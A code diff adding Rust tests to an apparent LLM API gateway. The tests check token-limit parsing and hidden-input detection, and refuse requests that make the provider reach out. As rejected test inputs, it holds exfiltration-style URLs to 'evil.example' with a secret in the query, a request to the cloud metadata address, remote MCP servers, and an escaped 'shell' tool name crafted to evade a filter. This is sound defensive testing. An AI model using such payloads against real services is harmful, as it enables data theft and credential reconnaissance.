@@ -105,6 +105,38 @@ fn what_two_readers_could_read_differently_is_refused() {
 }
 
 #[test]
+fn what_bounds_nothing_at_its_provider_bounds_no_reservation() {
+    // Fields of another provider: tolerant servers pass over them.
+    for (endpoint, body, most, choices) in [
+        (Endpoint::Chat, r#"{"model":"m","max_tokens":9000,"generationConfig":{"maxOutputTokens":1}}"#, Some(9000), 1),
+        (Endpoint::Chat, r#"{"model":"m","generation_config":{"maxOutputTokens":1}}"#, None, 1),
+        (Endpoint::Chat, r#"{"model":"m","n":7,"generationConfig":{"candidateCount":1}}"#, None, 7),
+        (Endpoint::Chat, r#"{"model":"m","max_output_tokens":1}"#, None, 1),
+        (Endpoint::Responses, r#"{"model":"m","max_tokens":1,"max_completion_tokens":1}"#, None, 1),
+        (Endpoint::Messages, r#"{"model":"m","max_tokens":9000,"max_completion_tokens":99999}"#, Some(9000), 1),
+        (Endpoint::Completions, r#"{"model":"m","max_completion_tokens":1}"#, None, 1),
+        (Endpoint::Chat, r#"{"model":"m","max_tokens":0}"#, None, 1),
+    ] {
+        let asked = ask(endpoint, body).unwrap();
+        assert_eq!((asked.max_output, asked.choices), (most, choices), "{body}");
+    }
+    assert_eq!(open(Endpoint::Generate, r#"{"max_tokens":1,"contents":[]}"#).max_output, None);
+    // Spellings that some servers read, because they don't mind case, and others don't.
+    for body in [
+        r#"{"model":"m","MAX_TOKENS":1}"#,
+        r#"{"model":"m","maxTokens":1}"#,
+        r#"{"model":"m","max__tokens":1}"#,
+        r#"{"Model":"m"}"#,
+        r#"{"model":"m","Stream":true}"#,
+        r#"{"model":"m","stream":true,"streamOptions":{"include_usage":true}}"#,
+        r#"{"model":"m","N":100}"#,
+        r#"{"model":"m","GENERATIONCONFIG":{"maxOutputTokens":1}}"#,
+    ] {
+        assert!(matches!(ask(Endpoint::Chat, body), Err(BadAsk::Spelling(..))), "{body}");
+    }
+}
+
+#[test]
 fn what_makes_the_provider_reach_out_is_refused_unless_it_is_open() {
     for body in [
         r#"{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://evil.example/?q=secret"}}]}]}"#,
@@ -120,9 +152,44 @@ fn what_makes_the_provider_reach_out_is_refused_unless_it_is_open() {
         r#"{"model":"m","tools":[{"google_search":{}}]}"#,
         r#"{"model":"m","tools":[{"urlContext":{}}]}"#,
         r#"{"model":"m","contents":[{"parts":[{"fileData":{"fileUri":"https://evil.example/"}}]}]}"#,
+        r#"{"model":"m","messages":[{"content":[{"audio_url":"http://169.254.169.254/"}]}]}"#,
+        // Tools that run at the provider, or that nobody has seen yet.
+        r#"{"model":"m","tools":[{"type":"shell","environment":{"type":"container_auto"}}]}"#,
+        r#"{"model":"m","tools":[{"type":"shell"}]}"#,
+        r#"{"model":"m","tools":[{"type":"shell","environment":{"type":"local"},"environment":{"type":"container_auto"}}]}"#,
+        r#"{"model":"m","tools":[{"type":"sh\u0065ll","environment":{"type":"container_reference"}}]}"#,
+        r#"{"model":"m","tools":[{"type":"openrouter:web_search"}]}"#,
+        r#"{"model":"m","tools":[{"type":"mcp_toolset","mcp_server_name":"x"}]}"#,
+        r#"{"model":"m","tools":[{"type":"of_tomorrow_20270101"}]}"#,
+        r#"{"model":"m","tools":["web_search"]}"#,
+        r#"{"model":"m","tools":[{"type":"namespace","name":"x","tools":[{"type":"mcp","server_url":"https://evil.example"}]}]}"#,
+        r#"{"model":"m","input":[{"type":"tool_search_output","tools":[{"type":"mcp","server_url":"https://evil.example"}]}]}"#,
+        r#"{"model":"m","plugins":[{"id":"web"}]}"#,
     ] {
         assert!(matches!(ask(Endpoint::Chat, body), Err(BadAsk::Reach(_))), "{body}");
         assert_eq!(open(Endpoint::Chat, body).max_input, None, "{body}");
+    }
+}
+
+#[test]
+fn geminis_tools_are_functions_or_reach_out() {
+    let gemini = |tool: &str| {
+        let body = format!(r#"{{"contents":[],"tools":[{tool}]}}"#);
+        read(Endpoint::Generate, Some("m"), Bytes::from(body), Reach::Closed, AskUsage::On).map(drop)
+    };
+    for tool in [
+        r#"{"functionDeclarations":[{"name":"f","parameters":{"type":"OBJECT","properties":{"url":{"type":"STRING"}}}}]}"#,
+        r#"{"function_declarations":[]}"#,
+        r#"{"computerUse":{"environment":"ENVIRONMENT_BROWSER"}}"#,
+    ] {
+        assert_eq!(gemini(tool), Ok(()), "{tool}");
+    }
+    for tool in [
+        r#"{"mcpServers":[{"name":"x","streamableHttpTransport":{"url":"https://evil.example"}}]}"#,
+        r#"{"functionDeclarations":[],"google_search":{}}"#,
+        r#"{"toolOfTomorrow":{}}"#,
+    ] {
+        assert!(matches!(gemini(tool), Err(BadAsk::Reach(_))), "{tool}");
     }
 }
 
@@ -131,6 +198,10 @@ fn ordinary_tools_and_their_traces_are_no_reach() {
     for body in [
         r#"{"model":"m","tools":[{"type":"function","function":{"name":"fetch","parameters":{"type":"object","properties":{"url":{"type":"string","default":"https://x.example"},"web_search":{"type":"mcp"}}}}}]}"#,
         r#"{"model":"m","tools":[{"name":"fetch","input_schema":{"type":"object","properties":{"image_url":{"type":"string"}}}}]}"#,
+        r#"{"model":"m","tools":[{"type":"custom","name":"c"},{"type":"bash_20250124","name":"bash"},{"type":"text_editor_20250728","name":"e"},{"type":"memory_20250818","name":"m"},{"type":"computer_20251124","name":"c"},{"type":"computer_use_preview"},{"type":"local_shell"},{"type":"apply_patch"}]}"#,
+        r#"{"model":"m","tools":[{"type":"tool_search_tool_regex_20251119","name":"s"},{"type":"tool_search_tool_bm25_20251119","name":"s"},{"type":"tool_search"}]}"#,
+        r#"{"model":"m","tools":[{"type":"shell","environment":{"type":"local","skills":[]}}]}"#,
+        r#"{"model":"m","tools":[{"type":"namespace","name":"crm","tools":[{"type":"function","name":"f"}]}]}"#,
         r#"{"model":"m","messages":[{"role":"assistant","content":[{"type":"tool_use","id":"1","name":"fetch","input":{"url":"https://x.example"}}]}]}"#,
         r#"{"model":"m","contents":[{"parts":[{"functionCall":{"name":"fetch","args":{"url":"https://x.example"}}}]}]}"#,
         r#"{"model":"m","messages":[{"role":"user","content":"see https://x.example, \"type\":\"image\""}]}"#,
@@ -154,5 +225,27 @@ fn what_is_larger_than_its_bytes_counts_as_all_that_the_model_takes() {
         r#"{"model":"m","contents":[{"parts":[{"inline_data":{"mime_type":"video/mp4","data":"AA=="}}]}]}"#,
     ] {
         assert_eq!(ask(Endpoint::Chat, body).unwrap().max_input, None, "{body}");
+    }
+}
+
+#[test]
+fn input_that_is_not_in_the_body_is_known_to_be_hidden() {
+    for (body, hidden) in [
+        (r#"{"model":"m","input":"hi","previous_response_id":"resp_1"}"#, true),
+        (r#"{"model":"m","input":"hi","previous_response_id":null}"#, false),
+        (r#"{"model":"m","prompt":{"id":"pmpt_1"}}"#, true),
+        (r#"{"model":"m","input":[{"type":"item_reference","id":"i"}]}"#, true),
+        (
+            r#"{"model":"m","messages":[{"content":[{"type":"document","source":{"type":"base64","data":"AA=="}}]}]}"#,
+            true,
+        ),
+        (r#"{"model":"m","messages":[{"content":[{"type":"file","file":{"file_id":"f"}}]}]}"#, true),
+        (
+            r#"{"model":"m","messages":[{"content":[{"type":"image","source":{"type":"base64","data":"AA=="}}]}]}"#,
+            false,
+        ),
+        (r#"{"model":"m","messages":[{"content":"a file, a document"}]}"#, false),
+    ] {
+        assert_eq!(ask(Endpoint::Chat, body).unwrap().hidden_input, hidden, "{body}");
     }
 }
